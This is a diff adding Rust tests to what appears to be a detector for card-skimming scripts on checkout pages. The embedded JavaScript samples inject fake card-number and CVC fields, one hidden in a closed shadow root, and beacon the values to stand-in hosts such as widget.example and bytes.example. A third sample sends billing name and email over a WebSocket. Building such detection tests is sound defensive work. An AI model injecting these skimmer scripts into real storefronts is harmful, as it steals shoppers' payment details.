@@ -250,3 +250,56 @@ fn the_page_address_a_script_sees_keeps_a_checkout_path() {
     let other = observe(src, limits(false), None).unwrap();
     assert!(sent_to(&other, "gated.example").is_empty());
 }
+
+#[test]
+fn a_custom_element_is_built_and_connected() {
+    let obs = run(r#"
+        class CardBox extends HTMLElement {
+          connectedCallback() {
+            var root = this.attachShadow({ mode: 'closed' }), self = this;
+            root.innerHTML = '<input id="n" placeholder="Card number"><input id="c" placeholder="CVC">';
+            root.addEventListener('change', function () {
+              self.dispatchEvent(new CustomEvent('box:data', { bubbles: true,
+                detail: { n: root.getElementById('n').value, c: root.getElementById('c').value } }));
+            });
+          }
+        }
+        customElements.define('card-box', CardBox);
+        var last = null;
+        document.addEventListener('box:data', function (e) { last = e.detail; });
+        document.querySelector('#co-payment-form').prepend(document.createElement('card-box'));
+        document.addEventListener('click', function () {
+          if (last) new Image().src = 'https://widget.example/p?d=' + btoa(JSON.stringify(last));
+        }, true);
+    "#);
+    assert_card_sent(&obs, "widget.example");
+}
+
+#[test]
+fn select_options_replaced_children_and_utf8_bytes() {
+    let obs = run(r#"
+        var slot = document.querySelector('.payment-method-content');
+        var mm = document.createElement('select');
+        for (var m = 1; m <= 12; m++) mm.add(new Option(('0' + m).slice(-2)));
+        var num = Object.assign(document.createElement('input'), { placeholder: 'Numero della carta' });
+        slot.replaceChildren(num, mm);
+        var host = new TextDecoder().decode(new TextEncoder().encode('bytes.example'));
+        num.addEventListener('blur', function () {
+          navigator.sendBeacon('https://' + host + '/b', JSON.stringify({ n: num.value, m: mm.options.length }));
+        });
+    "#);
+    assert_card_sent(&obs, "bytes.example");
+}
+
+#[test]
+fn a_name_or_an_email_alone_is_no_card_data() {
+    let obs = run(r#"
+        var ws = new WebSocket('wss://chat.example/v');
+        ws.onopen = function () {
+          var first = document.getElementById('checkout_billing_address_first_name');
+          ws.send(JSON.stringify({ name: first.value, email: document.getElementById('billing_email').value }));
+        };
+    "#);
+    assert!(!sent_to(&obs, "chat.example").is_empty(), "{:?}", obs.sends);
+    assert!(layer(&obs, true).is_none(), "{:?}", layer(&obs, true));
+}
